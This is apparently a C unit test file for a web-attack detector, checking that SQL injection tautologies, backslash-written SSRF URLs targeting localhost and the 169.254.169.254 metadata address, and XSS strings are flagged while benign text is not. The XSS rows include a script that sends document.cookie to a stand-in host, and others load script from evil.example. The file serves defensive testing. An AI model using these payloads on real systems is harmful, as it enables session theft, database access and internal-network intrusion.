/* test_payload_r12.c - issue 20, the thirty-third session's rows: an OR
 * on a name that is not NULL as the whole tail of a number or a break
 * (1 OR id IS NOT NULL: true on every row, no literal to compare); URLs
 * whose slashes are all backslashes or absent (http:\\127.0.0.1\admin,
 * http:169.254.169.254), which a gate on '/' kept from the SSRF reading
 * although the WHATWG parser reaches their host; a <script> whose text
 * is a few words of prose ("how to use <script> tag in html") is told,
 * not killed: it calls nothing. Attacks draw their kind
 * as a query value and a form body and reach the kill line; benign rows
 * draw nothing (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define S PAYLOAD_SQLI
#define F PAYLOAD_SSRF
#define X PAYLOAD_XSS
#define N PAYLOAD_NONE

static void test_or_not_null(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"1 OR id IS NOT NULL", S},
		{"1 OR NOT id IS NULL", S},
		{"1 OR id IS NOT NULL-- -", S},
		{"1 OR users.id IS NOT NULL#", S},
		{"-1 or password is not null", S},
		{"1) OR id IS NOT NULL--", S},
		{"x' OR username IS NOT NULL-- -", S},
	};
	rt_run_kill("or not null", S, t, sizeof(t) / sizeof(t[0]));
	static const struct rtcase b[] = {
		{"1 AND id IS NOT NULL", N},
		{"1 OR id IS NULL", N},
		{"2 or more is not null and x", N},
		{"id IS NOT NULL", N},
		{"where deleted_at is not null", N},
		{"1 or 2 items, not null", N},
	};
	rt_run("or not null", b, sizeof(b) / sizeof(b[0]));
}

static void test_backslash_urls(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"http:\\\\127.0.0.1\\admin", F},
		{"http:\\\\169.254.169.254", F},
		{"http:\\\\169.254.169.254\\latest\\meta-data", F},
		{"http:\\\\localhost\\admin", F},
		{"https:\\\\[::1]\\x", F},
		{"http:169.254.169.254", F},
		{"https:127.0.0.1:8080", F},
	};
	rt_run_kill("backslash urls", F, t, sizeof(t) / sizeof(t[0]));
	static const struct rtcase b[] = {
		{"Use http: or https: for the scheme", N},
		{"see http:\\\\intranet\\wiki", N},
		{"http:8080", N},
		{"\\\\fileserver\\share\\docs", N},
		{"C:\\Users\\admin\\Desktop", N},
		{"regex ^http:\\d+", N},
	};
	rt_run("backslash urls", b, sizeof(b) / sizeof(b[0]));
}

static void test_script_words(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<script>alert(1)</script>", X},
		{"<script>", X},
		{"<script>/*", X},
		{"<script> var a = 1", X},
		{"<script>alert`1`", X},
		{"<script>a b c</script><script>alert(1)</script>", X},
		{"<script>tag in html</script><img src=x onerror=alert(1)>", X},
		{"<script>location.href='//evil.example'</script>", X},
		{"<script src=//evil.example/x.js></script>", X},
		{"<script>onerror=alert;throw 1</script>", X},
		{"<script>new Image().src='//e.example/?'+document.cookie</script>", X},
	};
	rt_run_kill("script words", X, t, sizeof(t) / sizeof(t[0]));
	/* told (50), never killed */
	static const char *const b[] = {
		"how to use <script> tag in html",
		"the <script> element runs code in order",
		"Where do I put the <script> tag, head or body?",
		"<script> tag in html</script> explained",
	};
	rt_below_kill("script words", b, sizeof(b) / sizeof(b[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_or_not_null),
		cmocka_unit_test(test_backslash_urls),
		cmocka_unit_test(test_script_words),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
